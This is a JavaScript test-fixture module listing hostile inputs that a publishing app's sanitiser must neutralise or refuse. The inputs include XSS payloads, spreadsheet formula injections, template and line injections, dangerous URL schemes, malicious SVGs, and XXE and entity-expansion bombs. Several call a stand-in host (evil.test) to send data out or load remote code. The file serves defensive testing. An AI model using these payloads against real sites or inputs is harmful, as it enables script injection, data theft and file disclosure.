// What people have put into forms to make a page run it, load it or break. None of it may do anything but stand
// there as text. `texts` may be published; `urls`, `markup` and `letters` are refused, each with its finding;
// `drawings` are logos.

const run = "window.__hit=1";

/** Values that a spreadsheet would calculate come first: they must be the beginning of a field. */
const formulas = [
  "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"ok\")", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0", "=IMPORTXML(\"http://evil.test/\",\"//a\")", "=WEBSERVICE(\"http://evil.test/\")", "\t=1+1", "\uff1d1+1",
];

const tags = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script src=//evil.test/x.js></script>`, `<script\n>${run}</script\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`, `<script type=module>${run}</script>`, `<<script>${run}//<</script>`,
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `<img/src=x/onerror=${run}>`, `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><script href=data:,${run} />`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set attributeName=onmouseover to=${run}>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`, `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<math><mtext></p><style><img src=x onerror=${run}></style>`, `<body onload=${run}>`, `<iframe src="javascript:${run}">`, `<iframe srcdoc="<script>parent.__hit=1</script>">`,
  `<object data="javascript:${run}">`, `<embed src="data:text/html,<script>${run}</script>">`, `<a href="javascript:${run}">x</a>`, `<a href="&#106;avascript:${run}">x</a>`,
  `<form action="javascript:${run}"><input type=submit autofocus onfocus=${run}>`, `<input autofocus onfocus=${run}>`, `<button formaction="javascript:${run}">x</button>`,
  `<details open ontoggle=${run}>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<marquee onstart=${run}>`, `<select autofocus onfocus=${run}>`,
  `<base href="http://evil.test/">`, `<link rel=stylesheet href=http://evil.test/x.css>`, `<meta http-equiv=refresh content="0;url=http://evil.test/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`, `<style>@import "http://evil.test/x.css";</style>`, `<style>*{background:url(http://evil.test/)}</style>`,
  `<div style="width:expression(${run})">`, `<div style="background:url(javascript:${run})">`, `<p style="position:fixed;inset:0">over</p>`,
  `<template shadowrootmode=open><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<textarea></textarea><script>${run}</script>`,
  `<title></title><script>${run}</script>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`, `</script><script>${run}</script>`, `</SCRIPT ><img src=x onerror=${run}>`,
  `<!--><script>${run}</script>-->`, `--><script>${run}</script><!--`, `<![CDATA[<script>${run}</script>]]>`, `]]><script>${run}</script>`, `<?xml version="1.0"?><?php echo 1 ?>`,
  `<!ENTITY x SYSTEM "file:///etc/passwd">&x;`, `<plaintext>`, `<xmp>`, `<x/onclick=${run}>x`, `<dialog open>`, `<portal src=http://evil.test/>`,
];

const breakouts = [
  `"><script>${run}</script>`, `'><script>${run}</script>`, `" onmouseover="${run}`, `' onmouseover='${run}`, `" autofocus onfocus="${run}" x="`, `\`onmouseover=${run}`,
  `" style="background:url(http://evil.test/)`, `"/><link rel="stylesheet" href="http://evil.test/`, `x" srcset="http://evil.test/a.png 1x`, `\\"><img src=x onerror=${run}>`,
  `";${run};//`, `';${run};//`, `\\";${run};//`, `\${${run}}`, `");${run};("`, `</script><svg onload=${run}>`, `{"@context":"x"}</script>`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `&amp;lt;b&amp;gt;`, `%3Cscript%3E${run}%3C/script%3E`, `\u2028${run}\u2029`, `\ufeff<b>x</b>`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `__proto__`, `constructor`, `toString`,
];

const templates = [
  "{{ 7 * 7 }}", "{{ site | json_encode }}", "{% for x in [1] %}x{% endfor %}", "{# gone #}", "{{ __tera_context }}", "{% include \"base.html\" %}", "{%- raw -%}", "{{ <loom.arrow /> }}",
  "#{7*7}", "<%= 7*7 %>", "{locale}", "{n}", "$(window)", "[[constructor]]", "{{constructor.constructor('__hit=1')()}}",
];

const lines = [
  "A\nEND:VCARD\nBEGIN:VCARD\nFN:Evil", "A\r\nEMAIL:evil@evil.test", "A\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Evil", "A;TEL=1,2:3\\", "A\nATTACH:http://evil.test/",
  "</title><entry><id>evil</id></entry><title>", "A\nSitemap: http://evil.test/", "A\n  X-Evil: 1",
];

const scripts = ["\u0645\u0631\u062d\u0628\u0627 <b>x</b>", "\u200f<i>rtl</i>\u200e", "\u2067isolated\u2069 on", "e\u0301 \u0065\u0301\u0301\u0301", "\u{1f469}\u200d\u{1f52c} x", "\u202bembedded\u202c on", "a\u00adb\u200bc", "\ud83c\uddee\ud83c\uddf3"];

export const texts = [...formulas, ...tags, ...breakouts, ...templates, ...lines, ...scripts];

/** Addresses that are refused, in fields and in links of a text. */
export const urls = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `java\tscript:${run}`, `javascript\n:${run}`, `\tjavascript:${run}`,
  `javascript://evil.test/%0a${run}`, `vbscript:msgbox(1)`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD4=`, `DATA:image/svg+xml,<svg onload=${run}>`,
  `file:///etc/passwd`, `blob:https://evil.test/1`, `filesystem:https://evil.test/1`, `about:blank`, `view-source:https://evil.test/`, `ws://evil.test/`, `ftp://evil.test/`, `//evil.test/`, `\\\\evil.test\\x`,
];

/** HTML in a text's body: refused as a whole. */
export const markup = tags.filter((tag) => /^<\/?[a-z]|^<!--/i.test(tag) && !/^<(xmp|scr<|svg\/|img\/|math><mtext)/.test(tag)).slice(0, 40);

/** Characters that cannot be published: control characters, and those that turn the order of letters round. */
export const letters = ["\u0000", "\u0001", "\u0008", "\u000b", "\u000c", "\u001b", "\u0085", "\u009f", "\ufffe", "\uffff", "\u202e", "\u202d"];

const svg = (inside, more = "") => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${more}><rect width="9" height="9" fill="#2b3a67"/>${inside}</svg>`;
const secret = (path) => svg(`<image href="${path}" width="10" height="10"/>`);

/** Logos; of each only its outlines may come through. */
export const drawings = (private_) => [
  svg(`<script>${run}</script>`), svg("", ` onload="${run}"`), svg(`<a href="javascript:${run}"><rect width="1" height="1" onclick="${run}"/></a>`),
  svg(`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></body></foreignObject>`),
  svg(`<image href="http://evil.test/x.png" width="9" height="9"/>`), svg(`<use href="http://evil.test/x.svg#a"/>`), svg(`<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>`),
  svg(`<style>@import url(http://evil.test/x.css); rect { fill: url(http://evil.test/#a); background: url(javascript:${run}) }</style>`),
  svg(`<animate attributeName="href" values="javascript:${run}"/>`), svg(`<set attributeName="onmouseover" to="${run}"/>`), svg(`<rect width="1" height="1" fill="url(http://evil.test/a.svg#g)"/>`),
  svg(`<metadata>${run}</metadata><title>&lt;script&gt;${run}&lt;/script&gt;</title><desc onload="${run}">x</desc>`), `<?xml-stylesheet href="http://evil.test/x.css"?>${svg("")}`,
  svg(`<image href="data:text/html,&lt;script&gt;${run}&lt;/script&gt;" width="9" height="9"/>`), svg(`<handler xmlns="http://www.w3.org/2001/xml-events" type="application/ecmascript">${run}</handler>`),
  ...private_.map(secret),
];

/** Drawings that are refused: what they declare grows, or reads files. */
export const bombs = [
  `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">]>${svg("<text>&d;</text>")}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`, `<!doctype svg SYSTEM "http://evil.test/x.dtd">${svg("")}`,
  "<svg xmlns='http://www.w3.org/2000/svg'><g>", "<svg>",
];

/** Names of picture files. */
export const names = ["a b.png", "it's.png", "100%.png", "%2e%2e%2f.png", "\u00fcn\u00efc\u00f8d\u00e9.png", "\u200frtl.png", "a&amp;b.png", "a#b.png", "semi;colon,comma.png", "dots...png", "$(x)`y`.png", "\u0645.png"];
